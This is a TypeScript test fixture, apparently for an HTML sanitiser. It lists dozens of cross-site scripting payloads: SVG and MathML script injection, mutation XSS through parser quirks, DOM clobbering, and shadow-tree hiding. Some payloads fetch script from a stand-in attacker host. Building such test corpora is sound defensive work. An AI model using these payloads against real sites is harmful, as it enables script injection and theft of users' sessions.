import { formatted, type HostileMessage } from "./hostile-message.ts";

const drawings = formatted("run something by SVG", {
  "svg onload": "<svg onload=alert(1)></svg>",
  "svg onload with a slash": "<svg/onload=alert(1)>",
  "svg script": "<svg><script>alert(1)</script></svg>",
  "svg script with an address": '<svg><script href="https://evil.example/x.js"/></svg>',
  "svg script as data": '<svg><script xlink:href="data:text/javascript,alert(1)"/></svg>',
  "svg script with entities": "<svg><script>&#97;lert(1)</script></svg>",
  "svg animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "svg animate a link":
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">Weiter</text></a></svg>',
  "svg set a link": '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">Weiter</text></a></svg>',
  "svg link": '<svg><a xlink:href="javascript:alert(1)"><text y="20">Weiter</text></a></svg>',
  "svg use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  "svg use of elsewhere": '<svg><use href="https://evil.example/x.svg#x"/></svg>',
  "svg image": '<svg><image href="https://evil.example/x.png" onerror="alert(1)"/></svg>',
  "svg foreignObject": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
  "svg foreignObject with a frame":
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  "svg style": "<svg><style>*{display:none}</style></svg>",
  "svg style with a script": "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "svg title": "<svg><title><img src=x onerror=alert(1)></title></svg>",
  "svg desc": "<svg><desc><script>alert(1)</script></desc></svg>",
  "svg filter": '<svg><filter><feImage href="https://evil.example/x.png"/></filter></svg>',
  "svg handler": '<svg><handler type="text/javascript">alert(1)</handler></svg>',
  "svg discard": "<svg><discard onbegin=alert(1)></svg>",
  "svg in capitals": "<SVG ONLOAD=alert(1)></SVG>",
  "svg in a paragraph": "<p><svg onload=alert(1)></p>",
  "svg in a table": "<table><svg onload=alert(1)><tr><td>x</td></tr></table>",
  "svg without an end": "<svg><p><script>alert(1)",
  "svg of a huge size": '<svg width="100000" height="100000"><rect width="100%" height="100%"/></svg>',
  "svg that covers": '<svg style="position:fixed;inset:0"><rect width="9999" height="9999"/></svg>',
});

const formulas = formatted("run something by MathML", {
  "math link": '<math href="javascript:alert(1)">x</math>',
  "math xlink": '<math><mtext xlink:href="javascript:alert(1)">x</mtext></math>',
  "math maction":
    '<math><maction actiontype="statusline#https://evil.example/" xlink:href="javascript:alert(1)">x</maction></math>',
  "math handler": "<math onclick=alert(1)><mi>x</mi></math>",
  "math annotation": '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  "math semantics": "<math><semantics><annotation><script>alert(1)</script></annotation></semantics></math>",
  "math mtext": "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
  "math style": "<math><style><img src=x onerror=alert(1)></style></math>",
  "math space": '<math><mspace width="100000px" height="100000px"/></math>',
  "math of LaTeX": '<span data-mx-maths="\\\\href{javascript:alert(1)}{x}">x</span>',
});

const mutations = formatted("become something else when it is read a second time", {
  "mutation by noscript": "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
  "mutation by math and style":
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  "mutation by math in a form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "mutation by svg and p": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "mutation by svg and br": '<svg><br><style><a title="</style><img src=x onerror=alert(1)>"></style></svg>',
  "mutation by desc":
    '<svg><desc><svg><style><a title="</style><img src=x onerror=alert(1)>"></style></svg></desc></svg>',
  "mutation by a title":
    '<svg><title><style><a title="</style></title><img src=x onerror=alert(1)>"></style></title></svg>',
  "mutation by xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  "mutation by noembed": '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  "mutation by noframes": '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  "mutation by iframe": '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  "mutation by textarea": '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  "mutation by title": '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  "mutation by plaintext": "<plaintext><img src=x onerror=alert(1)>",
  "mutation by listing": "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
  "mutation by a template": "<template><style></template><img src=x onerror=alert(1)></style></template>",
  "mutation by a select": "<select><style></select><img src=x onerror=alert(1)></style></select>",
  "mutation by a caption":
    "<table><caption><svg><title><table><caption></caption></table><style><img src=x onerror=alert(1)></style>",
  "mutation by a comment": '<p title="<!--"></p><img src="--><img src=x onerror=alert(1)>">',
  "mutation by a backquote": '<img alt="``onerror=alert(1)" src=x>',
  "mutation by font": '<font face="x&quot;onerror=&quot;alert(1)">x</font>',
  "mutation by a font in svg": "<svg><font color=x><img src=x onerror=alert(1)></font></svg>",
  "mutation by an annotation":
    '<math><annotation-xml encoding="application/xhtml+xml"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  "mutation by nesting": `${"<div>".repeat(506)}<table><a><svg><desc><svg><image><a><desc><svg><image></image></svg></desc></a></image></svg><style><a id="</style><img src=x onerror=alert(1)>"></a></style></desc></svg></a></table>`,
  "mutation by a closing tag": "</p><svg></svg></br><img src=x onerror=alert(1)>",
  "mutation by a null byte": "<sty\u0000le><img src=x onerror=alert(1)></style>",
  "mutation by an ambiguous ampersand": '<a href="&NewLine;javascript&colon;alert(1)">x</a>',
  "mutation by an element in a body": "<body><body onload=alert(1)><p>x</p></body>",
});

const clobberers = formatted("take the place of a property of the page by a name", {
  "clobber by id":
    '<a id="trustedTypes">x</a><a id="trustedTypes" name="createPolicy" href="https://evil.example/">y</a>',
  "clobber of attributes": '<form onclick="alert(1)"><input name="attributes"></form>',
  "clobber of the parent": '<form><input name="parentNode"><input name="removeChild"></form>',
  "clobber of children": '<form><input name="childNodes"><input name="firstChild"><img src=x onerror=alert(1)></form>',
  "clobber of a name": '<form><input name="nodeName"><input name="nodeType"></form>',
  "clobber of the owner": '<form><input name="ownerDocument"><input name="namespaceURI"></form>',
  "clobber of the element list": '<form><input id="getAttribute"><input id="removeAttribute"></form>',
  "clobber of the document": '<img name="cookie"><img name="body"><img name="createElement">',
  "clobber of the page's root": '<div id="root">x</div><div id="content">y</div>',
  "clobber of a text": '<a id="innerHTML" href="javascript:alert(1)">x</a><a id="textContent">y</a>',
  "clobber by an iframe": '<iframe name="fetch" srcdoc="<a id=headers href=x></a>"></iframe>',
  "clobber by a form of a form": '<form id="x"><output name="y">z</output></form><form id="x"></form>',
  "clobber of a prototype": '<p id="__proto__">x</p><p id="constructor">y</p><p id="hasOwnProperty">z</p>',
  "clobber of React": '<p id="__reactFiber$x" data-reactroot>x</p>',
  "clobber of the location": '<a id="location" href="https://evil.example/">x</a><a name="navigation">y</a>',
});

const shadows = formatted("hide something in a template, a shadow tree or an own element", {
  template: "<template><img src=x onerror=alert(1)></template>",
  "template in a template": "<template><template><script>alert(1)</script></template></template>",
  "shadow tree": '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>',
  "closed shadow tree":
    '<p><template shadowrootmode="closed" shadowrootclonable><script>alert(1)</script></template></p>',
  "shadow tree of an old kind": '<div><template shadowroot="open"><style>*{display:none}</style></template></div>',
  slot: '<slot name="x"><img src=x onerror=alert(1)></slot>',
  "own element": "<x-y><script>alert(1)</script></x-y>",
  "own element with a shadow": '<x-y><template shadowrootmode="open"><slot></slot></template>x</x-y>',
  "content that is chosen":
    "<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=alert(1)></option></select>",
  canvas: "<canvas><img src=x onerror=alert(1)></canvas>",
});

/** What tries to get past a sanitiser by other languages within HTML and by what the parser makes of it. */
export const hostileForeign: readonly HostileMessage[] = [
  ...drawings,
  ...formulas,
  ...mutations,
  ...clobberers,
  ...shadows,
];
